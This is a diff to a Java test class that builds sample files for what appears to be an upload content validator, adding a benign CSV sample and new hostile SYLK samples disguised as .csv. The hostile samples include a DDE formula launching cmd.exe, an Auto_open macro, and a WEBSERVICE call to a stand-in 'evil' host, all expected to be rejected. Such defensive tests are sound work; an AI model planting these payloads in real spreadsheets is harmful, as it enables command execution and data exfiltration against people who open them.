@@ -139,6 +139,7 @@ final class TextSamples {
                     .under("formulas refused", rules(false, false), null));
         }
         text(all, "CSV with a head like a symbolic link file", "a.csv", "ID;Price;Name\r\nC1;2;Eel\r\nNo;3;Egg\r\n");
+        text(all, "CSV with a head like that and names", "a.csv", "ID;Price;Name\r\nNN;Max;Mia\r\n");
         all.add(Sample.good("with numbers", "a.csv", Bytes.ascii("-1,+2.5,-1e5,\"-3\",+49 (221) 1-2\n"))
                 .under("formulas refused", rules(false, false), null));
     }
@@ -378,7 +379,12 @@ final class TextSamples {
                     POLYGLOT));
         }
         String sylk = "ID;PWXL;N;E\nC;Y1;X1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''\nE\n";
-        for (String text : List.of(sylk, sylk.replace("\n", "\r\n"), "ID;P\nO;E\nNN;NAuto_open;ER101C1\nE\n")) {
+        for (String text : List.of(
+                sylk,
+                sylk.replace("\n", "\r\n"),
+                "ID;P\nO;E\nNN;NAuto_open;ER101C1\nE\n",
+                "ID;PX\nC;Y1;X1;R1;C1;K0;MWEBSERVICE(\"http://evil\")\nE\n",
+                "ID;PX\nC;Y1;X1;m1+1\nE\n")) {
             all.add(Sample.hostile("a symbolic link file", "a.csv", Bytes.ascii(text), CONTENT_MISMATCH));
         }
         for (String line : List.of("sep=~", "SEP=^", "\"sep=a\"", "sep==", "sep=\u00a7")) {
